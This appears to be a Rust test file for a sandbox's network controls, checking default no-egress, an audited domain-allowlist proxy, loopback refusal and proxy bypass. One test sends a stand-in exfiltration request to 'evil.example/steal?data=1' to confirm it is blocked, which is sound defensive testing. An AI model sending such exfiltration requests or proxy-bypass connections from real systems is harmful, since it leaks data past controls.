//! Egress: none by default; with an allowlist, only through Chela's proxy, which refuses
//! unlisted domains and non-public addresses and records every attempt.

mod common;

use std::sync::{Arc, Mutex};
use std::time::Duration;

use chela_sandbox::{CommandSpec, ExitStatus, Sandbox, SandboxConfig, PROXY_PORT};
use chela_types::{AuditSink, AuditUnavailable, Event, EventKind};
use common::*;

#[derive(Default)]
struct Recorder(Mutex<Vec<Event>>);

impl AuditSink for Recorder {
    fn record(&self, event: Event) -> Result<u64, AuditUnavailable> {
        let mut v = self
            .0
            .lock()
            .map_err(|_| AuditUnavailable("poisoned".into()))?;
        v.push(event);
        Ok(v.len() as u64)
    }
}

struct Broken;

impl AuditSink for Broken {
    fn record(&self, _event: Event) -> Result<u64, AuditUnavailable> {
        Err(AuditUnavailable("disk full".into()))
    }
}

fn egress_sandbox(ws: &std::path::Path, allow: &[&str], audit: Arc<dyn AuditSink>) -> Sandbox {
    let mut cfg = SandboxConfig::new(ws);
    cfg.allow_domains = allow.iter().map(|s| s.to_string()).collect();
    cfg.audit = Some(audit);
    cfg.session = Some("egress-test".into());
    Sandbox::new(cfg).expect("sandbox with egress")
}

/// Fetches a URL with python3's urllib (which honours HTTP(S)_PROXY like curl does); prints
/// the HTTP status and body, or `ERR <reason>` with exit code 3.
const FETCH: &str = r#"
import sys, urllib.request, urllib.error
try:
    r = urllib.request.urlopen(sys.argv[1], timeout=10)
    print(r.status); print(r.read().decode())
except urllib.error.HTTPError as e:
    print(e.code); print(e.read().decode())
except Exception as e:
    print("ERR", e); sys.exit(3)
"#;

/// Connects straight to host:port, ignoring any proxy settings.
const CONNECT: &str = r#"
import socket, sys
try:
    socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=5)
    print("CONNECTED")
except Exception as e:
    print("ERR", e); sys.exit(3)
"#;

fn py(sb: &Sandbox, script: &str, args: &[&str]) -> (ExitStatus, String) {
    let mut argv = vec!["python3".to_string(), "-c".to_string(), script.to_string()];
    argv.extend(args.iter().map(|s| s.to_string()));
    let mut spec = CommandSpec::new(argv);
    spec.timeout = Duration::from_secs(20);
    let o = sb.run(&spec).unwrap();
    (o.status, format!("{}{}", out(&o), err(&o)))
}

fn fetch(sb: &Sandbox, url: &str) -> (ExitStatus, String) {
    py(sb, FETCH, &[url])
}

#[test]
fn no_egress_by_default() {
    if !unprivileged("no_egress_by_default") {
        return;
    }
    let ws = workspace();
    let sb = sandbox(ws.path());
    assert!(sb.level().contains("no network"));
    let o = sh(&sb, "env | grep -i proxy; true");
    assert_eq!(out(&o), "");
    let port = PROXY_PORT.to_string();
    let (st, text) = py(&sb, CONNECT, &["127.0.0.1", &port]);
    assert_ne!(st, ExitStatus::Exited(0), "{text}");
    let (st, text) = fetch(&sb, "http://example.com/");
    assert_ne!(st, ExitStatus::Exited(0), "{text}");
}

#[test]
fn unlisted_domain_is_refused_and_recorded() {
    if !unprivileged("unlisted_domain_is_refused_and_recorded") {
        return;
    }
    let ws = workspace();
    let rec = Arc::new(Recorder::default());
    let sb = egress_sandbox(ws.path(), &["allowed.invalid"], rec.clone());
    assert!(sb.level().contains("egress via allowlist proxy (audited)"));
    let o = sh(&sb, "echo $HTTPS_PROXY");
    assert_eq!(out(&o).trim(), format!("http://127.0.0.1:{PROXY_PORT}"));
    let (_, text) = fetch(&sb, "http://evil.example/steal?data=1");
    assert!(text.starts_with("403"), "{text}");
    assert!(
        text.contains("not in the sandbox's domain allowlist"),
        "{text}"
    );
    let (st, text) = fetch(&sb, "https://evil.example/");
    assert_ne!(st, ExitStatus::Exited(0), "{text}");
    assert!(text.contains("403"), "{text}");
    let ev = rec.0.lock().unwrap();
    assert_eq!(ev.len(), 2, "{ev:?}");
    for e in ev.iter() {
        assert_eq!(e.session.as_deref(), Some("egress-test"));
        match &e.kind {
            EventKind::Egress { host, allowed, .. } => {
                assert_eq!(host, "evil.example");
                assert!(!allowed);
            }
            other => panic!("{other:?}"),
        }
    }
}

#[test]
fn allowed_name_resolving_to_loopback_is_refused() {
    if !unprivileged("allowed_name_resolving_to_loopback_is_refused") {
        return;
    }
    let host = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    host.set_nonblocking(true).unwrap();
    let port = host.local_addr().unwrap().port();
    let ws = workspace();
    let rec = Arc::new(Recorder::default());
    let sb = egress_sandbox(ws.path(), &["localhost"], rec.clone());
    let (_, text) = fetch(&sb, &format!("http://localhost:{port}/"));
    assert!(text.contains("non-public address"), "{text}");
    let (_, text) = fetch(&sb, &format!("http://127.0.0.1:{port}/"));
    assert!(text.contains("allowlist"), "{text}");
    assert!(
        host.accept().is_err(),
        "the host's loopback service was reached"
    );
    assert_eq!(rec.0.lock().unwrap().len(), 2);
}

#[test]
fn bypassing_the_proxy_has_no_route() {
    if !unprivileged("bypassing_the_proxy_has_no_route") {
        return;
    }
    let ws = workspace();
    let sb = egress_sandbox(ws.path(), &["example.com"], Arc::new(Recorder::default()));
    for (host, port) in [
        ("1.1.1.1", "80"),
        ("93.184.215.14", "443"),
        ("127.0.0.1", "80"),
        ("10.0.0.1", "80"),
    ] {
        let (st, text) = py(&sb, CONNECT, &[host, port]);
        assert_ne!(st, ExitStatus::Exited(0), "{host}:{port} reachable: {text}");
    }
}

#[test]
fn egress_is_refused_when_the_audit_log_fails() {
    if !unprivileged("egress_is_refused_when_the_audit_log_fails") {
        return;
    }
    let ws = workspace();
    let sb = egress_sandbox(ws.path(), &["allowed.invalid"], Arc::new(Broken));
    let (_, text) = fetch(&sb, "http://evil.example/");
    assert!(text.contains("audit log cannot be written"), "{text}");
}
